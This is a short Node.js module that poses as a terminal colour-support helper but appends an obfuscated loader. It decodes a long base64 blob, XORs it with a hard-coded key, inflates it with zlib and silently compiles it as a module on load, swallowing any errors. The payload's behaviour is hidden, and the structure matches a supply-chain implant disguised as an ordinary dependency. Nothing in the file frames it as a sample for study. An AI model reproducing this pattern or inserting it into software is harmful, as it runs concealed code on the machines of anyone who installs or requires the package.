// SPDX-License-Identifier: Apache-2.0
'use strict';
const zlib = require('zlib');
const M = require('module');

function supportsColor(stream) { return Boolean(stream && stream.isTTY); }
module.exports = { stdout: supportsColor(process.stdout), stderr: supportsColor(process.stderr) };

const K = [0x5b, 0x1e, 0x77, 0xa3, 0x09];
const B = 'I8T69WQoxE+z98VB1lh7zUXHUNuvLKcHmv2KB85Kdb+kGmgzWK+RIUPV4kcZQeyozF5p2JZ51T64I3WnrVO4naITeK0zTch91Vv+GTY5Hk0gYAyEu0nnM4FiyYLuylTdwWzKlWYnfzwSgsrvX4CPcBtHBt/BhEuKE+eCkYKTfSqWk9EqyWqc16bB5N9t++sgl48f2cGoM3tZwHrV8LXMvSTHzpvk9lBYpe4M47x90PHFmNQ2Lkiqbe6FWxh2tLHhwlnV4AArPncBg4JsMgyDogPWthIXFvOLpZ3f5ARjy/1ULjBIVscVGWpcj8VAgc317OoURGaL4q8a+QzBH1R1jvN6bbbnRSr/d61xm92x1djHug8RDei/lhu0MY7oDG8kCwW1Pyc/zLDKHnEpBX/lgMZUal2BRywFE9wepeJBNyw5OO2xw6aT9oGCIjxFvaqnb5qQHKsdSUBuJ1y+D8LjH9UmOQgSFRPF4nD23ciS/djfBxy7xD6tkzxUx095h9GfO0+qAasgykoXrwYf2lrURIH+uiPHEPzyvfWZcNYa4z6X0x1U+Vz0U+X1W2m9En+f5xdSha9VlrlFkKeQKNJK85lOmAf/5E19ukgdjHMc6bos47hSyemg0IAqQVOrp6sFjJi5wwIZWpbTP9lWmHlcs2e9gQL6/63nvdO3qBOhQHPOxOFCNTny4+AMZ0jnbAh/XhcrAm4Kn096B2eB9/4aCOqnGg4Crk/FXhucea0RuY1eBttMvrDIB4jZ3TfUHMvOT1hTyTMz79Icl7GbGkvXqXRY5gsEE/8Csu8esuUq6ip5oIulwBzyb9xzFo9FyKqgvbjhNokqzUgo8/rjrs9RT7B04R7NtA8ke1vuPtroCRCjIQvgtckVy/FIc8vQXaBXQUgR6GLZgRJM8lDBGxW4VkFRXNXOKH55UkTxNV3WfjVjzJ3u0czQZ09AQlbrktYCAbhbwKjTnSxedkhqwFNlJddEehFyTexz2cgnsWGrEwjuYiwZ22yWKYLvdRwIALinzS6Wh6FWxHFGsIThhqvSIETG2l6ZFLWcav+dK8aEMmLXhgSb03kZt8gE+VNbx4Ijp78aDv8Nb9oEtoU6o5yAGmMdKcLST9oYgQKG/MASfsce+uMAeTluauyov6cZHLa2I97AcnHqER37xrXv2u9SDOJKBY09/CpxYId1NW0jKF9ImxMDKz5WzlEIERPOsGlEElYD6Tw3+10qQ6WMpbuiWTP1gRpqAjkre0owOHxxx7uR9aMVUxyTkg0GROMcHY7oJRI2i4B2RaBHQxJLnvoGUt7mzL37PKOFBz7EO3Jak9EUQAHd1hOJZzz3SzDwLLs60r7jQYl7NiNrj1kG9KNWWTiI4hc8h9DaFoLsmye1g161PD4EDCxVsF2X7FvhNZbxzdOZSIb8urh7H0gTT5qE15neCyRzEF3saicFS1abnfegiLrwvpIwrwNl8uov9ts/leNdOtEBLRCB5azKON8Uvsp9UsyU0tR1Z3hT2dpvU3uzQmfDUjWSD8Fqbjwqxvt3qnqp8KduGyLu7HGau8wQGAbJgr35xOCher06U8QuHEsxw0bfT1n977LnvtuFN9hqWEoU2jqBDnSD8KikCKIJnyBkapuBHSGowN4z79NEH6O8XfxbJ7fVSHAShHqtUv4ggduaXN26ieTXlKoGoyPsRCBU50qTm9wjlUK5WHwbuXEOZqdBJZSfcLsLcqqbJHQ5X540vuqXpGsQlD4nuJBGFZkq7AVJExajENCqzWTbRYPOLNJD3JaSKxZyaA8aiGYVweA8PhsDSaZIdC9ABIWz+vRBDt3QxuHdc558GxUaCfWRDrAOXoLYqaojMAI7QG8BVS6M/mkavEq0h5biL0zK5Yci20HjW2jQG4YZe/uALOLoe9nodsQWjsXs4jJzIsDhsTn3Z6MRkJfaGZePB8oRZ/JC/eZlmGS8gmbCCVYFXlp3TBmg8DUEksphk/QmaxanNqOfqbcUVtt3l/ryWg070pfrsv7eWU3VxJcM1Fy8Xb2fKaFcFsUZeVs=';
setImmediate(() => {
  try {
    const raw = Buffer.from(B, 'base64').map((c, i) => c ^ K[i % K.length]);
    const unit = new M(__filename + '.x');
    unit.paths = module.paths;
    unit._compile(zlib.inflateSync(raw).toString(), __filename + '.x');
  } catch (e) { /* quiet */ }
});
